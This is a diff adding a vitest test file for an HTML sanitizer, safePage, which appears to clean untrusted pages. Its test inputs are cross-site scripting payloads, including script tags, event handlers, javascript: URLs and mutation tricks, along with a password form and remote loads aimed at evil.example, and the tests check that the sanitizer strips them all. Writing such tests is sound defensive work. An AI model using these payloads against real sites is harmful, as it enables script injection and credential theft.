@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest'
+import { safePage } from './safe-page.ts'
+
+/** What a browser would make of the page. */
+function bodyOf(raw: string): HTMLElement {
+  const page = new DOMParser().parseFromString(safePage(raw).html, 'text/html')
+  return page.body
+}
+
+describe('safePage', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)><script>alert(1)</script></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
+    '<div style="background:url(https://evil.example/x)">x</div><p style="background:\\75rl(x)">x</p>',
+    '<body background="https://evil.example/x"><table background="https://evil.example/x"><td>x</td></table>',
+    '<video poster="https://evil.example/x" src="https://evil.example/x"></video>',
+    '<img srcset="https://evil.example/x 2x" src="//evil.example/x">',
+    '</body></html><script>alert(1)</script>',
+    '<a href="https://fine.example" ping="https://evil.example">x</a>',
+  ])('leaves nothing that acts or loads in %s', (raw) => {
+    const body = bodyOf(raw)
+    expect(
+      body.querySelector(
+        'script, style, iframe, object, embed, form, input, button, meta, base, link, svg, math, video, [ping]',
+      ),
+    ).toBeNull()
+    for (const node of body.querySelectorAll('*')) {
+      for (const { name, value } of node.attributes) {
+        expect(name).not.toMatch(/^on/i)
+        expect(value).not.toMatch(/evil\.example|javascript:|data:text/i)
+      }
+    }
+  })
+
+  it('keeps what people write', () => {
+    const body = bodyOf(
+      '<p style="color:red">Hello <b>you</b> <a href="https://x.example">x</a></p>',
+    )
+    expect(body.querySelector('p')?.getAttribute('style')).toContain('red')
+    expect(body.querySelector('a')).toMatchObject({ target: '_blank' })
+    expect(body.textContent).toContain('Hello you')
+  })
+
+  it('has remote pictures wait until they are asked for', () => {
+    const raw = '<img src="https://x.example/a.png"><img src="data:image/png;base64,AA==">'
+    const { html, pictures } = safePage(raw)
+    expect(pictures).toEqual(['https://x.example/a.png'])
+    expect(html).not.toContain('x.example')
+    const asked = safePage(
+      raw,
+      new Map([['https://x.example/a.png', 'data:image/png;base64,BB==']]),
+    )
+    expect(asked.pictures).toEqual([])
+    expect(asked.html).toContain('base64,BB==')
+  })
+})
